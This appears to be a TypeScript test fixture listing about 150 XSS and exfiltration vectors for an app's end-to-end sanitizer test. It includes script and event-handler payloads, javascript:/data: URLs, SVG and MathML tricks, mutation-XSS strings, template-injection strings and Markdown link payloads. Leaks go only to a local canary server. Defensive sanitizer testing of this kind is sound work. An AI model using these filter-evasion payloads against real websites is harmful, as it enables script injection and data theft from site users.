/**
 * Known XSS and exfiltration vectors for tests/e2e/xss.test.ts (hostile test input, never run outside it).
 * `{N}` is the vector's number: executing script calls `alert(N)`, so a dialog names the vector; `{C}` is the
 * canary server's origin (http://127.0.0.1:<port>), and any request to it from the browser is a leak. Built
 * from the classic filter-evasion lists (OWASP cheat sheet, DOMPurify's mutation-XSS reports, html5sec.org)
 * for the kinds issue 15 names: script tags, event handlers, javascript:/data:/vbscript: URLs, SVG and MathML,
 * <base>, meta refresh, forms, CSS url() and srcset, <iframe srcdoc>, <object>/<embed>, mutation XSS.
 */

/** Vectors for the article body; `head` ones go into the page's <head>. */
export const BODY_VECTORS: Array<{ html: string; head?: boolean }> = [
  // Script elements.
  { html: '<script>alert({N})</script>' },
  { html: '<script src="{C}/script/{N}.js"></script>' },
  { html: '<SCRIPT>alert({N})</SCRIPT>' },
  { html: '<script>alert({N})</script>', head: true },
  { html: '<script type="module">alert({N})</script>' },
  { html: '<scr<script>ipt>alert({N})</scr</script>ipt>' },
  // Event handlers.
  { html: '<img src=x onerror=alert({N})>' },
  { html: '<img src=x onerror="&#97;lert({N})">' },
  { html: '<img src="x" onerror="alert({N})" alt="ảnh">' },
  { html: '<img src=x:alert({N}) onerror=eval(src)>' },
  { html: '<body onload=alert({N})>' },
  { html: '<svg onload=alert({N})>' },
  { html: '<svg/onload=alert({N})>' },
  { html: '<input autofocus onfocus=alert({N})>' },
  { html: '<details open ontoggle=alert({N})><summary>x</summary></details>' },
  { html: '<video><source onerror=alert({N})></video>' },
  { html: '<audio src=x onerror=alert({N})></audio>' },
  { html: '<marquee onstart=alert({N})>chạy</marquee>' },
  { html: '<p onmouseover=alert({N})>di chuột</p>' },
  { html: '<div onclick=alert({N})>bấm</div>' },
  { html: '<isindex type=image src=1 onerror=alert({N})>' },
  { html: '<object data=x onerror=alert({N})></object>' },
  { html: '<style onload=alert({N})></style>' },
  { html: '<textarea autofocus onfocus=alert({N})>x</textarea>' },
  { html: '<select autofocus onfocus=alert({N})></select>' },
  { html: '<keygen autofocus onfocus=alert({N})>' },
  { html: '<img src=x oNeRrOr=alert({N})>' },
  { html: '<img/src="x"/onerror=alert({N})>' },
  { html: '<img src=x onerror\x0b=alert({N})>' },
  { html: '<img """><script>alert({N})</script>">' },
  // javascript:, data:, vbscript: URLs.
  { html: '<a href="javascript:alert({N})">liên kết</a>' },
  { html: '<a href="JaVaScRiPt:alert({N})">liên kết</a>' },
  { html: '<a href="&#106;avascript:alert({N})">liên kết</a>' },
  { html: '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert({N})">liên kết</a>' },
  { html: '<a href="java&#x09;script:alert({N})">liên kết</a>' },
  { html: '<a href="java\nscript:alert({N})">liên kết</a>' },
  { html: '<a href=" javascript:alert({N})">liên kết</a>' },
  { html: '<a href="javascript&colon;alert({N})">liên kết</a>' },
  { html: '<a href="data:text/html,<script>alert({N})</script>">liên kết</a>' },
  { html: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">liên kết</a>' },
  { html: '<a href="vbscript:msgbox({N})">liên kết</a>' },
  { html: '<a href="{C}/ping-target/{N}" ping="{C}/ping/{N}">liên kết</a>' },
  { html: '<iframe src="javascript:alert({N})"></iframe>' },
  { html: '<form action="javascript:alert({N})"><button>gửi</button></form>' },
  { html: '<form><button formaction="javascript:alert({N})">gửi</button></form>' },
  { html: '<math><maction actiontype="statusline" xlink:href="javascript:alert({N})">x</maction></math>' },
  { html: '<svg><a xlink:href="javascript:alert({N})"><text x="20" y="20">x</text></a></svg>' },
  { html: '<svg><a href="javascript:alert({N})"><text x="20" y="20">x</text></a></svg>' },
  { html: '<img src="javascript:alert({N})">' },
  { html: '<embed src="javascript:alert({N})">' },
  { html: '<object data="javascript:alert({N})"></object>' },
  // SVG and MathML.
  { html: '<svg><script>alert({N})</script></svg>' },
  { html: '<svg><script href="{C}/svgscript/{N}.js"></script></svg>' },
  { html: '<svg><animate onbegin=alert({N}) attributeName=x dur=1s></svg>' },
  { html: '<svg><set attributeName="onmouseover" to="alert({N})"/></svg>' },
  {
    html: '<svg><animate attributeName="href" values="javascript:alert({N})"/><a><text y="20">x</text></a></svg>',
  },
  { html: '<svg><image href="{C}/svgimage/{N}.png"/></svg>' },
  { html: '<svg><use href="{C}/svguse/{N}.svg#x"/></svg>' },
  {
    html: '<svg><foreignObject><iframe srcdoc="<script>alert({N})</script>"></iframe></foreignObject></svg>',
  },
  { html: '<svg><style>@import "{C}/svgstyle/{N}.css";</style></svg>' },
  { html: '<math><mtext><table><mglyph><style><img src=x onerror=alert({N})>' },
  { html: '<math><mi xlink:href="data:x,<script>alert({N})</script>">x</mi></math>' },
  // Frames, objects, embeds.
  { html: '<iframe srcdoc="<script>alert({N})</script>"></iframe>' },
  { html: '<iframe srcdoc="&lt;img src=x onerror=alert({N})&gt;"></iframe>' },
  { html: '<iframe src="{C}/iframe/{N}"></iframe>' },
  { html: '<iframe src="data:text/html,<script>alert({N})</script>"></iframe>' },
  { html: '<object data="{C}/object/{N}"></object>' },
  { html: '<object data="data:text/html,<script>alert({N})</script>"></object>' },
  { html: '<embed src="{C}/embed/{N}">' },
  {
    html: '<embed src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22alert({N})%22/>">',
  },
  { html: '<applet code="x" codebase="{C}/applet/{N}"></applet>' },
  { html: '<portal src="{C}/portal/{N}"></portal>' },
  { html: '<frameset><frame src="{C}/frame/{N}"></frameset>' },
  // <base>, meta refresh, links, forms.
  { html: '<base href="{C}/base/{N}/">', head: true },
  { html: '<base href="{C}/base-body/{N}/"><img src="relative-{N}.png" alt="tương đối">' },
  { html: '<meta http-equiv="refresh" content="0;url={C}/refresh/{N}">', head: true },
  { html: '<meta http-equiv="refresh" content="0;url={C}/refresh-body/{N}">' },
  { html: '<meta http-equiv="refresh" content="0;url=javascript:alert({N})">' },
  { html: '<meta http-equiv="Content-Security-Policy" content="default-src *">', head: true },
  { html: '<meta name="referrer" content="unsafe-url">', head: true },
  { html: '<link rel="stylesheet" href="{C}/link-css/{N}.css">', head: true },
  { html: '<link rel="prefetch" href="{C}/prefetch/{N}">' },
  { html: '<link rel="preload" as="image" href="{C}/preload/{N}.png">' },
  { html: '<link rel="import" href="{C}/import/{N}">' },
  { html: '<form action="{C}/form/{N}" method="post"><input name="q" value="x"><button>gửi</button></form>' },
  { html: '<form id="kho"><input name="platform" value="electron"></form>' },
  { html: '<img id="app" name="kho" src="{C}/clobber/{N}.png">' },
  // CSS url() and srcset.
  { html: '<div style="background:url({C}/css-inline/{N}.png)">nền</div>' },
  { html: '<div style="background-image:url(&quot;{C}/css-entity/{N}.png&quot;)">nền</div>' },
  { html: '<style>@import "{C}/css-import/{N}.css";</style>' },
  { html: '<style>p{background:url({C}/css-rule/{N}.png)}</style>' },
  { html: '<style>@font-face{font-family:x;src:url({C}/css-font/{N}.woff)}p{font-family:x}</style>' },
  { html: '<img srcset="{C}/srcset/{N}.png 1x, {C}/srcset2/{N}.png 2x" alt="srcset">' },
  { html: '<picture><source srcset="{C}/picture/{N}.png"><img src="x" alt="picture"></picture>' },
  { html: '<video poster="{C}/poster/{N}.png"></video>' },
  { html: '<table background="{C}/table-bg/{N}.png"><tr><td>ô</td></tr></table>' },
  { html: '<input type="image" src="{C}/input-image/{N}.png">' },
  { html: '<img lowsrc="{C}/lowsrc/{N}.png" src="x" alt="lowsrc">' },
  { html: '<bgsound src="{C}/bgsound/{N}">' },
  // Mutation XSS: markup that changes meaning when serialised and parsed again.
  { html: '<noscript><p title="</noscript><img src=x onerror=alert({N})>"></noscript>' },
  { html: '<svg></p><style><a id="</style><img src=1 onerror=alert({N})>">' },
  { html: '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert({N}) src=1>">' },
  { html: '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert({N})>' },
  {
    html: '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=alert({N})>">',
  },
  { html: '<svg><p><style><a id="</style><img src=1 onerror=alert({N})>">' },
  { html: '<xmp><img src=x onerror=alert({N})></xmp>' },
  { html: '<noembed><img src=x onerror=alert({N})></noembed>' },
  { html: '<noframes><img src=x onerror=alert({N})></noframes>' },
  { html: '<template><img src=x onerror=alert({N})></template>' },
  { html: '<title><img src=x onerror=alert({N})></title>' },
  { html: '<textarea><img src=x onerror=alert({N})></textarea>' },
  { html: '<a title="&lt;img src=x onerror=alert({N})&gt;">tiêu đề</a>' },
  { html: '<!--<img src="--><img src=x onerror=alert({N})//">' },
  { html: '<![CDATA[<img src=x onerror=alert({N})>]]>' },
];

/** Hostile strings for titles, authors and site names (markup, URLs, template syntax). */
export const METADATA_VECTORS: string[] = [
  '<img src=x onerror=alert({N})>',
  '<script>alert({N})</script>',
  '"><svg onload=alert({N})>',
  "'><svg onload=alert({N})>",
  'javascript:alert({N})',
  '<a href="javascript:alert({N})">x</a>',
  '{{constructor.constructor("alert({N})")()}}',
  '${alert({N})}',
  '<iframe srcdoc="<script>alert({N})</script>">',
  '<img src="{C}/meta-img/{N}.png">',
  '</title><script>alert({N})</script>',
  '<style>*{background:url({C}/meta-css/{N}.png)}</style>',
];

/** Hostile tag names (tags.attach accepts any text up to 200 characters; `/` nests, so no `//`). */
export const TAG_VECTORS: string[] = [
  '<img src=x onerror=alert({N})>',
  '<script>alert({N})</script>',
  '"><svg onload=alert({N})>',
  'javascript:alert({N})',
  '<a href="javascript:alert({N})">x</a>',
  '{{constructor.constructor("alert({N})")()}}',
  '<iframe srcdoc="&lt;script&gt;alert({N})&lt;/script&gt;">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert({N})">',
];

/** Hostile highlight notes: notes are Markdown, so Markdown links and raw HTML too. */
export const NOTE_VECTORS: string[] = [
  '[bấm vào đây](javascript:alert({N}))',
  '[bấm](JaVaScRiPt:alert({N}))',
  '[bấm](data:text/html,<script>alert({N})</script>)',
  '[bấm](vbscript:msgbox({N}))',
  '![ảnh]({C}/note-img/{N}.png)',
  '<img src=x onerror=alert({N})>',
  '<script>alert({N})</script>',
  '<iframe srcdoc="<script>alert({N})</script>"></iframe>',
  '<a href="javascript:alert({N})">x</a>',
  '[x](<javascript:alert({N})>)',
  '<svg onload=alert({N})>',
  '<details open ontoggle=alert({N})>',
  '[ref][1]\n\n[1]: javascript:alert({N})',
  '<style>*{background:url({C}/note-css/{N}.png)}</style>',
  '`<img src=x onerror=alert({N})>`',
];

/** `text` with its placeholders filled. */
export function fill(text: string, n: number, canary: string): string {
  return text.replaceAll('{N}', String(n)).replaceAll('{C}', canary);
}
